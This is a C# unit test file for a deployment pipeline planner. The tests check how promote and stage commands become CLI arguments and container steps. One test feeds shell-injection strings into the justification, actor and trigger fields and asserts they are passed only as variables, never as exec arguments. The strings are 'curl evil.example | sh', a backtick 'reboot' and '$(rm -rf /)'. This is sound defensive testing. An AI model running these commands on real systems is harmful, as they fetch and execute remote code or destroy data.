using Pipelines.Containers;
using static Pipelines.Tests.Dagger.PlannerFixtures;

namespace Pipelines.Tests.Dagger;

public sealed class PromotePlanTests
{
    [Fact]
    public void The_gate_runs_the_cli_promote_command_with_the_report_and_summary_in_the_output_directory()
    {
        var plan = Planner.Promote(Gate, Promote, GateOutcome.FailWithGate);

        var cli = plan.CliArguments();
        Assert.Equal("promote", cli[0]);
        Assert.Equal("pipelines.yaml", cli.FlagValue("--config"));
        Assert.Equal(ContainerPaths.Report, cli.FlagValue("--report"));
        Assert.Equal(ContainerPaths.Summary, cli.FlagValue("--summary"));
        Assert.Equal("123456", cli.FlagValue("--run-id"));
        Assert.DoesNotContain("--skip-gate", cli);
        Assert.DoesNotContain("--dry-run", cli);
    }

    [Fact]
    public void Skip_gate_and_dry_run_become_flags()
    {
        var plan = Planner.Promote(Gate, Promote with { SkipGate = true, DryRun = true }, GateOutcome.FailWithGate);

        Assert.Contains("--skip-gate", plan.CliArguments());
        Assert.Contains("--dry-run", plan.CliArguments());
    }

    [Fact]
    public void The_gate_exec_allows_any_exit_status_and_records_it_next_to_the_report()
    {
        var plan = Planner.Promote(Gate, Promote, GateOutcome.ReturnReport);

        var gate = plan.GateExec();
        Assert.Equal(["sh", "-c", ShellScripts.RecordExitCode], gate.Args.Take(3));
        Assert.Equal(ContainerPaths.Out, plan.Variable(PlanVariables.Out));
        Assert.Contains("exit-code", ShellScripts.RecordExitCode);
    }

    [Fact]
    public void The_failing_variant_ends_with_an_exec_that_exits_with_the_recorded_status()
    {
        var plan = Planner.Promote(Gate, Promote, GateOutcome.FailWithGate);

        var run = plan.Container(ContainerPlanner.RunContainer);
        var last = Assert.IsType<ExecStep>(run.Steps[^1]);
        Assert.Equal(["sh", "-c", ShellScripts.ExitWithRecordedCode], last.Args);
        Assert.Same(plan.GateExec(), run.Steps[^2]);
        Assert.Equal(new ContainerResult(ContainerPlanner.RunContainer), plan.Result);
        Assert.Equal(ModuleFunctions.Promote, plan.Function);
    }

    [Fact]
    public void The_report_variant_returns_the_output_directory_and_never_fails_on_the_gate()
    {
        var plan = Planner.Promote(Gate, Promote, GateOutcome.ReturnReport);

        Assert.Equal(new DirectoryResult(ContainerPlanner.RunContainer, ContainerPaths.Out), plan.Result);
        Assert.DoesNotContain(plan.Execs(), e => e.Args.SequenceEqual(["sh", "-c", ShellScripts.ExitWithRecordedCode]));
        Assert.Equal(ModuleFunctions.PromoteReport, plan.Function);
    }

    [Fact]
    public void Untrusted_text_reaches_the_cli_only_as_variable_values()
    {
        var promote = Promote with
        {
            SkipGate = true,
            Justification = "hotfix'; curl evil.example | sh; echo '$(id)",
            Actor = "octocat`reboot`",
            Trigger = """{"ref":"$(rm -rf /)","sha":"--dry-run"}""",
        };

        var plan = Planner.Promote(Gate, promote, GateOutcome.FailWithGate);

        foreach (var value in new[] { promote.Justification, promote.Actor, promote.Trigger })
        {
            Assert.DoesNotContain(plan.ExecArguments(), arg => arg.Contains(value, StringComparison.Ordinal));
        }

        Assert.Equal(promote.Justification, plan.Variable(PlanVariables.Justification));
        Assert.Equal(promote.Actor, plan.Variable(PlanVariables.Actor));
        Assert.Equal(promote.Trigger, plan.Variable(PlanVariables.Trigger));
        Assert.DoesNotContain("--justification", plan.CliArguments());
        Assert.DoesNotContain("--actor", plan.CliArguments());
        Assert.DoesNotContain("--trigger", plan.CliArguments());
    }

    [Fact]
    public void Absent_untrusted_values_set_no_variable_so_the_cli_keeps_its_own_defaults()
    {
        var plan = Planner.Promote(Gate, Promote, GateOutcome.FailWithGate);

        Assert.Null(plan.Variable(PlanVariables.Justification));
        Assert.Null(plan.Variable(PlanVariables.Actor));
        Assert.Null(plan.Variable(PlanVariables.Trigger));
    }

    [Fact]
    public void A_nul_character_in_untrusted_text_is_refused_before_anything_runs()
    {
        var error = Assert.Throws<ContainerPlanException>(() =>
            Planner.Promote(Gate, Promote with { Justification = "a\0b" }, GateOutcome.FailWithGate));

        Assert.StartsWith("justification:", error.Message);
    }

    [Fact]
    public void The_checks_run_in_the_node_runner_unless_the_caller_passes_a_toolchain()
    {
        var byDefault = Planner.Promote(Gate, Promote, GateOutcome.FailWithGate).Container(ContainerPlanner.RunContainer);
        var custom = Planner.Promote(Gate with { HasRunner = true }, Promote, GateOutcome.FailWithGate).Container(ContainerPlanner.RunContainer);

        Assert.Equal(new FromImageStep(ContainerImages.Default.Runner), byDefault.Steps[0]);
        Assert.Equal(new FromInputContainerStep(PlanInputs.Runner), custom.Steps[0]);
    }

    [Fact]
    public void The_published_cli_is_copied_into_the_runner_and_the_workspace_is_the_working_directory()
    {
        var run = Planner.Promote(Gate, Promote, GateOutcome.FailWithGate).Container(ContainerPlanner.RunContainer);

        Assert.Contains(new CopyDirectoryStep(ContainerPaths.Cli, new ContainerDirectory(ContainerPlanner.BuildContainer, ContainerPaths.BuildOutput)), run.Steps);
        var source = run.Steps.OfType<CopyDirectoryStep>().Single(s => s.Path == ContainerPaths.Work);
        Assert.Equal(new InputDirectory(PlanInputs.Workspace), source.Source);
        Assert.Contains("**/node_modules", source.Exclude);
        Assert.Contains(new WorkdirStep(ContainerPaths.Work), run.Steps);
    }

    [Theory]
    [InlineData(nameof(GateStage.ResolveShas), "resolve-shas", "resolveShas")]
    [InlineData(nameof(GateStage.CheckAncestry), "check-ancestry", "checkAncestry")]
    [InlineData(nameof(GateStage.PollHealth), "poll-health", "pollHealth")]
    [InlineData(nameof(GateStage.VerifyVersion), "verify-version", "verifyVersion")]
    [InlineData(nameof(GateStage.RunChecks), "run-checks", "runChecks")]
    [InlineData(nameof(GateStage.LogBypass), "log-bypass", "logBypass")]
    [InlineData(nameof(GateStage.PushProd), "push-prod", "pushProd")]
    public void Each_stage_runs_the_cli_stage_command_alone(string stageName, string cliName, string function)
    {
        var stage = Enum.Parse<GateStage>(stageName);

        var plan = Planner.Stage(stage, Gate, Promote, GateOutcome.FailWithGate);

        Assert.Equal(["stage", cliName], plan.CliArguments().Take(2));
        Assert.Equal(function, plan.Function);
        Assert.Equal(["sh", "-c", ShellScripts.ExitWithRecordedCode], plan.Execs().Last().Args);
        Assert.Equal(stage, GateStages.Parse(cliName));
    }

    [Fact]
    public void The_stage_report_returns_the_output_directory()
    {
        var plan = Planner.Stage(GateStage.PollHealth, Gate, Promote, GateOutcome.ReturnReport);

        Assert.Equal(ModuleFunctions.StageReport, plan.Function);
        Assert.Equal(new DirectoryResult(ContainerPlanner.RunContainer, ContainerPaths.Out), plan.Result);
    }

    [Fact]
    public void An_unknown_stage_name_is_refused_with_the_valid_names()
    {
        var error = Assert.Throws<ContainerPlanException>(() => GateStages.Parse("push-everything"));

        Assert.Contains("resolve-shas", error.Message);
    }
}
